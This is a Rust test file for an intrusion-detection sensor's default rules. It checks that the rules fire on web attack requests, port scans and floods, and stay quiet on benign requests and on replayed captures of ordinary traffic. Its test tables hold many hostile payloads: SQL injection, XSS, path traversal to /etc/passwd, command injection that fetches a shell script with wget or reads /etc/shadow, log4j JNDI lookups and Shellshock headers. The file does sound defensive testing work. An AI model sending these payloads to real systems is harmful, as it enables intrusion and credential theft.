//! The default rules: each attack in its variants is found, what honest people write is not, and real captures of
//! ordinary traffic stay quiet.

#![expect(
    clippy::indexing_slicing,
    clippy::print_stdout,
    clippy::unwrap_used,
    reason = "a test may panic, and says aloud what it skips"
)]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use etherparse::{LaxNetSlice, LaxSlicedPacket, TransportSlice};
use pcap_parser::{Block, PcapBlockOwned, PcapError};
use phantomnet::address::Address;
use phantomnet::decode::{Packet, Transport};
use phantomnet::handover::Findings;
use phantomnet::rules::{
    Counter, DEFAULT_RULES, Place, RuleSet, Scratch, Sighting, ThresholdTable, Track, Variables,
};
use phantomnet::sources::Keyer;
use phantomnet::time::Timestamp;

fn default_rules() -> RuleSet {
    let (rules, report) = RuleSet::load([DEFAULT_RULES], &Variables::default());
    for refusal in &report.refused {
        println!("{refusal}");
    }
    assert_eq!(report.refused.len(), 0, "{report}");
    rules
}

/// A sensor as far as rules go: packets in, messages of the rules that fired out.
struct Watch {
    rules: RuleSet,
    scratch: Scratch,
    counts: ThresholdTable,
    fired: BTreeMap<u32, u32>,
    sources: BTreeMap<u32, Address>,
}

impl Watch {
    fn new() -> Self {
        Self {
            rules: default_rules(),
            scratch: Scratch::new(),
            counts: ThresholdTable::new(1 << 14),
            fired: BTreeMap::new(),
            sources: BTreeMap::new(),
        }
    }

    fn see(&mut self, packet: &Packet<'_>) {
        let mut findings = Findings::default();
        self.rules.inspect(packet, &mut self.scratch, &mut findings);
        for &index in findings.rules() {
            let rule = self.rules.rule(index).unwrap();
            let fires = rule.threshold.is_none_or(|threshold| {
                let seen = Sighting {
                    source: packet.source,
                    destination: packet.destination,
                    destination_port: packet.transport.ports().map_or(0, |(_, to)| to),
                    tenant: 0,
                    time: packet.time,
                };
                let tracked = match threshold.track {
                    Track::BySource => seen.source,
                    Track::ByDestination => seen.destination,
                };
                let keyer = Keyer { key: [3, 4], v6_prefix: 64, by_tenant: false };
                let (_, hash) = keyer.key_of(tracked, seen.tenant);
                let place = Place::of_destination(hash, tracked);
                self.counts.count(place, &Counter::new(rule.sid, threshold), &seen).fires
            });
            if fires {
                *self.fired.entry(rule.sid).or_default() += 1;
                self.sources.entry(rule.sid).or_insert(packet.source);
            }
        }
    }

    /// What fired: risk, message and how often, the weightiest first.
    fn told(&self) -> Vec<(u8, &str, u32)> {
        let rules = self.rules.rules().iter();
        rules
            .filter_map(|rule| Some((rule.risk, &*rule.message, *self.fired.get(&rule.sid)?)))
            .collect()
    }
}

fn packet(transport: Transport, payload: &[u8]) -> Packet<'_> {
    let length = u32::try_from(payload.len()).unwrap();
    Packet {
        sequence: 1,
        time: Timestamp::from_secs(1_700_000_000),
        source: Address::v4([198, 51, 100, 9]),
        destination: Address::v4([192, 168, 0, 10]),
        protocol: match transport {
            Transport::Tcp { .. } => 6,
            Transport::Udp { .. } => 17,
            _ => 1,
        },
        ttl: 64,
        length: 40 + length,
        wire_length: 54 + length,
        vlan: None,
        tunnels: 0,
        carriers: [None; 2],
        transport,
        payload,
    }
}

const TO_WEB: Transport = Transport::Tcp { source_port: 51_000, destination_port: 80, flags: 0x18 };
const FROM_WEB: Transport =
    Transport::Tcp { source_port: 80, destination_port: 51_000, flags: 0x18 };

fn request(line: &str) -> Vec<u8> {
    format!("{line} HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0 (X11)\r\nAccept: */*\r\n\r\n").into()
}

fn form(body: &str) -> Vec<u8> {
    format!(
        "POST /login HTTP/1.1\r\nHost: www.example.org\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into()
}

fn with_header(header: &str) -> Vec<u8> {
    format!("GET / HTTP/1.1\r\nHost: www.example.org\r\n{header}\r\n\r\n").into()
}

fn found(transport: Transport, payload: &[u8]) -> Vec<String> {
    let mut watch = Watch::new();
    watch.see(&packet(transport, payload));
    watch.told().iter().map(|(_, message, _)| (*message).to_owned()).collect()
}

/// Request lines of attacks, and how the message of a rule that must fire begins.
const ATTACKS: &[(&str, &str)] = &[
    ("GET /?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--", "HTTP_SQL_INJECTION"),
    ("GET /?id=1+union+all+select+1%2C2%2C3--", "HTTP_SQL_INJECTION"),
    ("GET /?id=1/**/UnIoN/**/SeLeCt/**/null,null--", "HTTP_SQL_INJECTION"),
    ("GET /?id=-1%20union%20select%20null--", "HTTP_SQL_INJECTION"),
    ("GET /?id=1%27+or+1%3D1--+", "HTTP_SQL_INJECTION"),
    ("GET /?id=1'%20or%20'1'='1", "HTTP_SQL_INJECTION"),
    ("GET /?id=1%27%20or%20%271%27%3D%271", "HTTP_SQL_INJECTION"),
    ("GET /?id=1%20OR%201=1", "HTTP_SQL_INJECTION"),
    ("GET /?id=1+or+1=1", "HTTP_SQL_INJECTION"),
    ("GET /?user=admin%27--", "HTTP_SQL_INJECTION"),
    ("GET /?id=1%3B%20DROP%20TABLE%20users", "HTTP_SQL_INJECTION"),
    ("GET /?id=1;drop%20table%20users", "HTTP_SQL_INJECTION"),
    ("GET /?q=x%20and%20select%20a%20from%20t%20where%20b=1", "HTTP_SQL_INJECTION"),
    ("GET /?q=1%27%20and%20table_name%20in%20INFORMATION_SCHEMA.tables", "HTTP_SQL_INJECTION"),
    ("GET /?q=1;exec%20master..xp_cmdshell%20'dir'", "HTTP_SQL_INJECTION"),
    ("GET /?q=1%27;waitfor%20delay%20%270:0:5%27--", "HTTP_SQL_INJECTION"),
    ("GET /?q=1%27%20and%20SLEEP(5)--", "HTTP_SQL_INJECTION"),
    ("GET /?q=<script>alert(1)</script>", "HTTP_XSS_ATTEMPT"),
    ("GET /?q=%3CScript%3Ealert(1)%3C/script%3E", "HTTP_XSS_ATTEMPT"),
    ("GET /?q=%253Cscript%253E", "HTTP_XSS_ATTEMPT"),
    ("GET /?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "HTTP_XSS_ATTEMPT"),
    ("GET /?q=<img/src=x/onerror=alert(1)>", "HTTP_XSS_ATTEMPT"),
    ("GET /?q=<svg/onload=alert(1)>", "HTTP_XSS_ATTEMPT"),
    ("GET /?u=javascript:alert(document.cookie)", "HTTP_XSS_ATTEMPT"),
    ("GET /../../../../etc/passwd", "HTTP_PATH_TRAVERSAL"),
    ("GET /?f=..%2f..%2f..%2fboot.ini", "HTTP_PATH_TRAVERSAL"),
    ("GET /?f=%2e%2e%2f%2e%2e%2fetc", "HTTP_PATH_TRAVERSAL"),
    ("GET /cgi-bin/.%2e/%2e%2e/%2e%2e/bin/x", "HTTP_PATH_TRAVERSAL"),
    ("GET /?f=..\\..\\windows\\x", "HTTP_PATH_TRAVERSAL"),
    ("GET /?f=..%5c..%5cwindows", "HTTP_PATH_TRAVERSAL"),
    ("GET /?f=..%252f..%252fetc", "HTTP_PATH_TRAVERSAL"),
    ("GET /?f=/etc/passwd%00", "HTTP_PATH_TRAVERSAL"),
    ("GET /?ip=1;wget%20http://203.0.113.9/x.sh", "Command"),
    ("GET /?ip=1%3Bwget+http%3A%2F%2F203.0.113.9", "Command"),
    ("GET /?ip=$(wget$IFS$9http://203.0.113.9)", "Command"),
    ("GET /?ip=1;cat%20/etc/shadow", "Command"),
    ("GET /?ip=1%3Bcat%20%2Fetc%2Fshadow", "Command"),
    ("GET /scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir", "Command"),
    ("GET /?x=%2Fbin%2Fsh", "Command"),
    ("GET /shell.php?cmd=whoami", "Web shell"),
    ("GET /?x=${jndi:ldap://203.0.113.9/a}", "log4j"),
    ("GET /?x=%24%7Bjndi%3Aldap", "log4j"),
];

#[test]
fn each_attack_on_the_web_is_found_by_its_name() {
    for (line, name) in ATTACKS {
        let told = found(TO_WEB, &request(line));
        assert!(told.iter().any(|message| message.starts_with(name)), "{line}: {told:?}");
    }
    for (payload, name) in [
        (form("u=1%27+or+1%3D1--&p=x"), "HTTP_SQL_INJECTION"),
        (form("u=' or 1=1--"), "HTTP_SQL_INJECTION"),
        (form("u=%27+union+select+a+from+b"), "HTTP_SQL_INJECTION"),
        (form("x=${jndi:ldap://203.0.113.9/a}"), "log4j"),
        (with_header("User-Agent: ${${::-j}${::-n}di:ldap://x}"), "log4j"),
        (with_header("User-Agent: ${${lower:j}ndi:ldap://x}"), "log4j"),
        (with_header("User-Agent: () { :;}; echo x"), "Shellshock"),
        (with_header("Cookie: () { ignored; };/bin/id"), "Shellshock"),
        (with_header("User-Agent: sqlmap/1.7#stable"), "Scanner sqlmap"),
        (with_header("User-Agent: Mozilla/5.00 (Nikto/2.1.6)"), "Scanner Nikto"),
        (
            with_header("User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
            "Scanner Nmap",
        ),
    ] {
        let told = found(TO_WEB, &payload);
        let text = String::from_utf8_lossy(&payload);
        assert!(told.iter().any(|message| message.starts_with(name)), "{text}: {told:?}");
    }
}

/// Request lines of honest people that hold words of attacks.
const HONEST: &[&str] = &[
    "GET /",
    "GET /search?q=student+union+select+committee",
    "GET /search?q=select%20a%20gift%20from%20our%20shop",
    "GET /search?q=how+to+select+a+book+from+the+list",
    "GET /search?q=O%27Reilly+or+Manning",
    "GET /search?q=rock+%27n%27+roll+--+best+of",
    "GET /search?q=1=1+and+all+that",
    "GET /docs/sql/drop-table.html",
    "GET /docs/sql/select-from-where",
    "GET /update?insert=1&delete=0",
    "GET /wiki/Union_(SQL)",
    "GET /wiki/Cross-site_scripting",
    "GET /recaptcha/api.js?onload=onloadCallback&render=explicit",
    "GET /js/onerror.js?v=1",
    "GET /track?url=javascript:void(0)",
    "GET /static/../style.css",
    "GET /a..b/c...d/file--name--v2.css",
    "GET /cgi-bin/share?dir=/usr/bin/show",
    "GET /download/wget-1.21.tar.gz",
    "GET /man/cat.1.html;jsessionid=0A1B2C",
    "GET /page;catalog=7?x=/etc",
    "GET /img/cmd.png",
    "GET /blog/why-we-delete--and-update--often",
    "GET /?utm_source=a%2Cb%2Cc&utm_campaign=union",
    "GET /maps?bbox=1,2,3,4&from=a&select=b",
    "GET /font.css?family=Open+Sans:400,700|Roboto",
    "GET /search?q=price+%3E+100+and+color%3Dred+order+by+name",
    "GET /it%27s-a--test",
];

#[test]
fn honest_requests_pages_and_mails_stay_quiet() {
    for line in HONEST {
        assert_eq!(found(TO_WEB, &request(line)), [""; 0], "{line}");
    }
    let texts = [
        "We update our prices; please select an offer from the list, or delete this mail -- thank you.",
        "SELECT name FROM users WHERE id=1 UNION SELECT name FROM admins; DROP TABLE x; -- ' or 1=1",
        "<html><script>document.write('<img onerror=x onload=y>')</script><a href=\"javascript:go()\">../../x</a>",
        "See ../../etc/passwd and /bin/sh; wget http://example.org; cmd.exe /c dir; User-Agent: sqlmap/1.0",
    ];
    for text in texts {
        let page = format!("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n{text}");
        assert_eq!(found(FROM_WEB, page.as_bytes()), [""; 0], "page: {text}");
        let mail = Transport::Tcp { source_port: 51_000, destination_port: 25, flags: 0x18 };
        assert_eq!(found(mail, text.as_bytes()), [""; 0], "mail: {text}");
        let referer = with_header(&format!(
            "Referer: http://example.org/?q={}",
            text.replace(['\r', '\n', '<'], " ")
        ));
        let told = found(TO_WEB, &referer);
        assert!(
            told.iter().all(|message| message.starts_with("Scanner")),
            "referer: {text}: {told:?}"
        );
    }
    let comment =
        form("text=Please+update+the+table+and+select+one%2C+don%27t+delete+--+thanks+or+not%3D");
    assert_eq!(found(TO_WEB, &comment), [""; 0]);
}

#[test]
fn a_port_scan_and_a_flood_fire_and_a_browser_does_not() {
    let syn = |destination_port| Transport::Tcp { source_port: 51_000, destination_port, flags: 2 };
    let mut scan = Watch::new();
    (1..=30).for_each(|port| scan.see(&packet(syn(port), b"")));
    assert_eq!(scan.told()[0], (70, "Port scan: 20 different well-known ports in 60 s", 11));

    let mut flood = Watch::new();
    for number in 0..2_500_u32 {
        let [_, a, b, c] = number.to_be_bytes();
        let source = Address::v4([100, a, b, c]);
        flood.see(&Packet { source, ..packet(syn(80), b"") });
    }
    let told = flood.told();
    assert_eq!(told, [(70, "SYN flood: 1000 connections begun towards one host in 10 s", 1)]);

    let mut browser = Watch::new();
    for number in 0..60_u8 {
        let destination = Address::v4([203, 0, 113, number]);
        browser.see(&Packet { destination, ..packet(syn(443), b"") });
        browser.see(&Packet { destination, ..packet(syn(80), b"") });
    }
    assert_eq!(browser.told(), []);
}

#[test]
fn every_default_rule_says_what_where_and_how_much() {
    let rules = default_rules();
    for rule in rules.rules() {
        assert!((9_000_001..9_001_000).contains(&rule.sid), "{}", rule.sid);
        assert!(rule.message.len() > 8, "{}", rule.sid);
        assert!(rule.metadata_value("risk").is_some(), "{} states no risk", rule.sid);
        assert!(rule.metadata_value("attack_class").is_some(), "{} states no class", rule.sid);
        assert!(rule.technique().is_some_and(|id| id.starts_with('T')), "{}", rule.sid);
    }
}

/// The captures that others made, when they are at hand.
fn corpus() -> Option<PathBuf> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/corpus");
    if folder.join("MANIFEST.tsv").is_file() {
        return Some(folder);
    }
    println!("SKIPPED: no captures at {}; nothing was replayed", folder.display());
    None
}

/// The files of the corpus whose category passes, with the category.
fn captures(folder: &Path, wanted: impl Fn(&str) -> bool) -> Vec<(String, PathBuf)> {
    let manifest = std::fs::read_to_string(folder.join("MANIFEST.tsv")).unwrap();
    let rows = manifest.lines().skip(1).map(|line| line.split('\t').collect::<Vec<_>>());
    rows.filter(|row| wanted(row[1]))
        .map(|row| (row[1].to_owned(), folder.join(row[2].trim_start_matches("handover/"))))
        .collect()
}

fn replay(file: &Path) -> Watch {
    let mut watch = Watch::new();
    let bytes = std::fs::read(file).unwrap();
    for_each_frame(&bytes, &mut |time, link, frame| {
        if let Some(packet) = decode(time, link, frame) {
            watch.see(&packet);
        }
    });
    watch
}

fn for_each_frame(bytes: &[u8], see: &mut dyn FnMut(Timestamp, i32, &[u8])) {
    let Ok(mut reader) = pcap_parser::create_reader(1 << 20, bytes) else { return };
    let (mut link, mut resolution, mut nanos_per_fraction) = (1, 1_000_000_u64, 1_000);
    loop {
        match reader.next() {
            Ok((used, block)) => {
                match block {
                    PcapBlockOwned::LegacyHeader(header) => {
                        link = header.network.0;
                        nanos_per_fraction =
                            if header.is_nanosecond_precision() { 1 } else { 1_000 };
                    }
                    PcapBlockOwned::Legacy(frame) => {
                        let nanos = i64::from(frame.ts_sec) * 1_000_000_000
                            + i64::from(frame.ts_usec) * nanos_per_fraction;
                        see(Timestamp::from_nanos(nanos), link, frame.data);
                    }
                    PcapBlockOwned::NG(Block::InterfaceDescription(interface)) => {
                        link = interface.linktype.0;
                        resolution = interface.ts_resolution().unwrap_or(1_000_000);
                    }
                    PcapBlockOwned::NG(Block::EnhancedPacket(frame)) => {
                        let ticks = i128::from(frame.ts_high) << 32 | i128::from(frame.ts_low);
                        let nanos = ticks * 1_000_000_000 / i128::from(resolution);
                        let taken = usize::try_from(frame.caplen).unwrap().min(frame.data.len());
                        see(
                            Timestamp::from_nanos(i64::try_from(nanos).unwrap_or(0)),
                            link,
                            &frame.data[..taken],
                        );
                    }
                    PcapBlockOwned::NG(_) => {}
                }
                reader.consume(used);
            }
            Err(PcapError::Incomplete(_)) => {
                if reader.refill().is_err() {
                    return;
                }
            }
            Err(_) => return,
        }
    }
}

/// A plain decoder of its own, so that these tests stand by themselves.
fn decode(time: Timestamp, link: i32, frame: &[u8]) -> Option<Packet<'_>> {
    let sliced = match link {
        1 => LaxSlicedPacket::from_ethernet(frame).ok()?,
        113 => LaxSlicedPacket::from_ip(frame.get(16..)?).ok()?,
        0 | 108 => LaxSlicedPacket::from_ip(frame.get(4..)?).ok()?,
        101 | 228 | 229 => LaxSlicedPacket::from_ip(frame).ok()?,
        _ => return None,
    };
    let (source, destination, ttl, rest) = match sliced.net.as_ref()? {
        LaxNetSlice::Ipv4(ip) => {
            let header = ip.header();
            (
                Address::v4(header.source()),
                Address::v4(header.destination()),
                header.ttl(),
                ip.payload(),
            )
        }
        LaxNetSlice::Ipv6(ip) => {
            let header = ip.header();
            (
                Address::v6(header.source()),
                Address::v6(header.destination()),
                header.hop_limit(),
                ip.payload(),
            )
        }
        LaxNetSlice::Arp(_) => return None,
    };
    let (transport, protocol, payload) = match sliced.transport {
        Some(TransportSlice::Tcp(tcp)) => {
            let flags = frame_flags(tcp.slice());
            let ports = (tcp.source_port(), tcp.destination_port());
            (
                Transport::Tcp { source_port: ports.0, destination_port: ports.1, flags },
                6,
                tcp.payload(),
            )
        }
        Some(TransportSlice::Udp(udp)) => {
            let ports = (udp.source_port(), udp.destination_port());
            (Transport::Udp { source_port: ports.0, destination_port: ports.1 }, 17, udp.payload())
        }
        Some(TransportSlice::Icmpv4(icmp)) => {
            (Transport::Icmp { kind: icmp.type_u8(), code: icmp.code_u8() }, 1, icmp.payload())
        }
        Some(TransportSlice::Icmpv6(icmp)) => {
            (Transport::Icmp { kind: icmp.type_u8(), code: icmp.code_u8() }, 58, icmp.payload())
        }
        Some(TransportSlice::Igmp(_)) | None => (Transport::Other, rest.ip_number.0, rest.payload),
    };
    let length = u32::try_from(frame.len()).ok()?;
    Some(Packet {
        sequence: 0,
        time,
        source,
        destination,
        protocol,
        ttl,
        length,
        wire_length: length,
        vlan: None,
        tunnels: 0,
        carriers: [None; 2],
        transport,
        payload,
    })
}

fn frame_flags(segment: &[u8]) -> u8 {
    segment.get(13).copied().unwrap_or_default()
}

#[test]
fn captures_of_ordinary_traffic_stay_quiet() {
    let Some(folder) = corpus() else { return };
    let mut unexpected = Vec::new();
    let mut packets = 0;
    for (_, file) in captures(&folder, |category| category == "normal") {
        let name = file.file_name().unwrap().to_string_lossy().into_owned();
        let watch = replay(&file);
        packets += watch.scratch.counters().packets;
        for (risk, message, count) in watch.told() {
            unexpected.push(format!("{name}: {count} x [{risk}] {message}"));
        }
    }
    assert!(unexpected.is_empty(), "{unexpected:#?}");
    assert!(packets > 50_000, "only {packets} packets were read");
}

/// Attacks that no rule sees: not over IP, told by no packet of theirs, or too few packets for any count.
const SILENT_ATTACKS: &[&str] = &[
    "MODBUS-TestDataPart2.pcap",
    "arppoison.pcapng",
    "eternalblue-failed-patched-win7.pcap",
    "nmap_udp_version.pcap",
    "2015-01-02-post-infection.pcap",
    "multiport_scan.pcap",
    "trickbot.pcap",
    "nmap_vsn.pcap",
    "dhcp_flood.pcap",
];

#[test]
fn captures_of_attacks_do_not() {
    let Some(folder) = corpus() else { return };
    let mut silent = Vec::new();
    for (category, file) in captures(&folder, |category| category.starts_with("attack:")) {
        let name = file.file_name().unwrap().to_string_lossy().into_owned();
        let watch = replay(&file);
        println!("{category} {name}: {:?}", watch.told());
        if watch.told().is_empty() {
            silent.push(name);
        }
    }
    assert_eq!(silent, SILENT_ATTACKS);
}
